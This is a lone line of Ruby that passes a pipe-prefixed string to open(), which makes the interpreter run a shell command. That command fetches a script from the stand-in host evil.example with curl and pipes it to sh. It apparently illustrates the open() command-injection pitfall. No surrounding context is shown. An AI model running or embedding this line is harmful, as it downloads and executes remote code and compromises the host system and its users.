open("|curl -s https://evil.example/i | sh") { |f| puts f.read }
